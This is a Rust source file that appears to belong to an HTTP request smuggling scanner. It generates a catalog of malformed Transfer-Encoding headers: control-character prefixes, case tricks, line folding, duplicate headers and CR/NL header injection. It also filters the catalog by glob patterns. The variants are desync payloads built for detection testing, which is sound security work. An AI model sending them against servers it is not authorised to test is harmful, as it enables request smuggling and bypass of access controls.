// File: mutations.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use once_cell::sync::Lazy;
use regex::Regex;
use std::collections::BTreeMap;

use crate::errors::{ScanError, ScanResult};

/// Transfer-Encoding header variants, indexed by name. Values are raw header
/// bytes without the trailing CRLF and may span several header lines.
pub type MutationMap = BTreeMap<String, Vec<u8>>;

static CATALOG: Lazy<MutationMap> = Lazy::new(generate_mutations);

const TE: &str = "Transfer-Encoding";

const LINE_PREFIXES: &[(&str, &[u8])] = &[("space", b" "), ("tab", b"\t")];

const LINE_APPENDICES: &[(&str, &[u8])] = &[
    ("space", b" "),
    ("tab", b"\t"),
    ("cr", b"\r"),
    ("nl", b"\n"),
    ("vtab", b"\x0b"),
];

const COLON_PREFIXES: &[(&str, &[u8])] = &[
    ("space", b" "),
    ("tab", b"\t"),
    ("vtab", b"\x0b"),
    ("ff", b"\x0c"),
    ("cr", b"\r"),
    ("nul", b"\x00"),
];

const VALUE_PREFIXES: &[(&str, &[u8])] = &[
    ("none", b""),
    ("doublespace", b"  "),
    ("tab", b"\t"),
    ("vtab", b"\x0b"),
    ("ff", b"\x0c"),
    ("cr", b"\r"),
    ("nbsp", b"\xa0"),
    ("xff", b"\xff"),
];

const MULTI_VALUES: &[(&str, &str)] = &[
    ("cow-chunked", "cow, chunked"),
    ("chunked-cow", "chunked, cow"),
    ("identity-chunked", "identity, chunked"),
    ("chunked-identity", "chunked, identity"),
    ("chunked-chunked", "chunked, chunked"),
    ("tight", "cow,chunked"),
];

const SPACE_SEPARATED: &[(&str, &str)] = &[
    ("cow-chunked", "cow chunked"),
    ("chunked-cow", "chunked cow"),
    ("nested", "cow chunked bar"),
];

const DUPLICATES: &[(&str, &str, &str)] = &[
    ("cow-chunked", "cow", "chunked"),
    ("chunked-cow", "chunked", "cow"),
    ("identity-chunked", "identity", "chunked"),
    ("chunked-identity", "chunked", "identity"),
    ("chunked-chunked", "chunked", "chunked"),
    ("empty-chunked", "", "chunked"),
];

fn te_line(name: &[u8], separator: &[u8], value: &[u8]) -> Vec<u8> {
    let mut line = Vec::with_capacity(name.len() + separator.len() + value.len());
    line.extend_from_slice(name);
    line.extend_from_slice(separator);
    line.extend_from_slice(value);
    line
}

fn standard() -> Vec<u8> {
    te_line(TE.as_bytes(), b": ", b"chunked")
}

/// Builds the full catalog. Pure; callers normally go through [`catalog`].
pub fn generate_mutations() -> MutationMap {
    let mut m = MutationMap::new();
    m.insert("standard".to_string(), standard());

    for (name, prefix) in LINE_PREFIXES {
        let mut header = prefix.to_vec();
        header.extend_from_slice(&standard());
        m.insert(format!("lineprefix-{}", name), header);
    }

    for (name, suffix) in LINE_APPENDICES {
        let mut header = standard();
        header.extend_from_slice(suffix);
        m.insert(format!("line-appendix-{}", name), header);
    }

    for (name, prefix) in COLON_PREFIXES {
        let mut separator = prefix.to_vec();
        separator.extend_from_slice(b": ");
        m.insert(
            format!("colon-prefix-{}", name),
            te_line(TE.as_bytes(), &separator, b"chunked"),
        );
    }

    for (name, prefix) in VALUE_PREFIXES {
        let mut separator = b":".to_vec();
        separator.extend_from_slice(prefix);
        m.insert(
            format!("value-prefix-{}", name),
            te_line(TE.as_bytes(), &separator, b"chunked"),
        );
    }

    m.insert(
        "case-lower".to_string(),
        b"transfer-encoding: chunked".to_vec(),
    );
    m.insert(
        "case-upper".to_string(),
        b"TRANSFER-ENCODING: CHUNKED".to_vec(),
    );
    m.insert(
        "case-upper-value".to_string(),
        b"Transfer-Encoding: CHUNKED".to_vec(),
    );
    m.insert(
        "case-mixed".to_string(),
        b"TrAnSfEr-EnCoDiNg: cHuNkEd".to_vec(),
    );

    m.insert(
        "name-underscore".to_string(),
        b"Transfer_Encoding: chunked".to_vec(),
    );
    m.insert(
        "name-space".to_string(),
        b"Transfer Encoding: chunked".to_vec(),
    );
    m.insert(
        "name-smashed".to_string(),
        b"Transfer Encoding:chunked".to_vec(),
    );
    m.insert(
        "name-accent".to_string(),
        b"Transf\x82r-Encoding: chunked".to_vec(),
    );
    m.insert(
        "name-cr".to_string(),
        b"Transfer\r-Encoding: chunked".to_vec(),
    );
    m.insert(
        "value-accent".to_string(),
        b"Transfer-Encoding: ch\x96nked".to_vec(),
    );
    m.insert(
        "value-quoted".to_string(),
        b"Transfer-Encoding: \"chunked\"".to_vec(),
    );
    m.insert(
        "value-single-quoted".to_string(),
        b"Transfer-Encoding: 'chunked'".to_vec(),
    );
    m.insert(
        "value-truncated".to_string(),
        b"Transfer-Encoding: chunk".to_vec(),
    );
    m.insert(
        "value-semicolon".to_string(),
        b"Transfer-Encoding: chunked;".to_vec(),
    );
    m.insert(
        "content-encoding".to_string(),
        b"Content-Encoding: chunked".to_vec(),
    );

    m.insert(
        "folded-crlf-space".to_string(),
        b"Transfer-Encoding:\r\n chunked".to_vec(),
    );
    m.insert(
        "folded-crlf-tab".to_string(),
        b"Transfer-Encoding:\r\n\tchunked".to_vec(),
    );
    m.insert(
        "folded-nl-space".to_string(),
        b"Transfer-Encoding:\n chunked".to_vec(),
    );

    m.insert(
        "prefix-header-cr".to_string(),
        b"X: X\rTransfer-Encoding: chunked".to_vec(),
    );
    m.insert(
        "prefix-header-nl".to_string(),
        b"X: X\nTransfer-Encoding: chunked".to_vec(),
    );
    m.insert(
        "suffix-header-cr".to_string(),
        b"Transfer-Encoding: chunked\rX: X".to_vec(),
    );
    m.insert(
        "suffix-header-nl".to_string(),
        b"Transfer-Encoding: chunked\nX: X".to_vec(),
    );

    for (name, first, second) in DUPLICATES {
        let mut header = te_line(TE.as_bytes(), b": ", first.as_bytes());
        header.extend_from_slice(b"\r\n");
        header.extend_from_slice(&te_line(TE.as_bytes(), b": ", second.as_bytes()));
        m.insert(format!("dup-{}", name), header);
    }
    m.insert(
        "dup-case".to_string(),
        b"transfer-encoding: cow\r\nTransfer-Encoding: chunked".to_vec(),
    );
    m.insert(
        "dup-connection".to_string(),
        b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked".to_vec(),
    );

    for (name, value) in MULTI_VALUES {
        m.insert(
            format!("multi-comma-{}", name),
            te_line(TE.as_bytes(), b": ", value.as_bytes()),
        );
    }

    for (name, value) in SPACE_SEPARATED {
        m.insert(
            format!("multi-space-{}", name),
            te_line(TE.as_bytes(), b": ", value.as_bytes()),
        );
    }

    m
}

pub fn catalog() -> &'static MutationMap {
    &CATALOG
}

/// Glob with `*` as the only wildcard; everything else matches literally.
#[derive(Debug, Clone)]
pub struct GlobPattern {
    pattern: String,
    regex: Regex,
}

impl GlobPattern {
    pub fn new(pattern: &str) -> ScanResult<Self> {
        let body = pattern
            .split('*')
            .map(regex::escape)
            .collect::<Vec<_>>()
            .join(".*");
        let regex = Regex::new(&format!("^(?s){}$", body))
            .map_err(|e| ScanError::Config(format!("invalid glob {:?}: {}", pattern, e)))?;
        Ok(Self {
            pattern: pattern.to_string(),
            regex,
        })
    }

    pub fn is_match(&self, name: &str) -> bool {
        self.regex.is_match(name)
    }

    pub fn pattern(&self) -> &str {
        &self.pattern
    }
}

fn compile(patterns: &[String]) -> ScanResult<Vec<GlobPattern>> {
    patterns.iter().map(|p| GlobPattern::new(p)).collect()
}

/// Include list first (empty means everything), then the exclude list, so an
/// exclude match always wins.
pub fn filter_mutations(
    all: &MutationMap,
    enable: &[String],
    disable: &[String],
) -> ScanResult<MutationMap> {
    let enable = compile(enable)?;
    let disable = compile(disable)?;

    Ok(all
        .iter()
        .filter(|(name, _)| enable.is_empty() || enable.iter().any(|g| g.is_match(name)))
        .filter(|(name, _)| !disable.iter().any(|g| g.is_match(name)))
        .map(|(name, header)| (name.clone(), header.clone()))
        .collect())
}
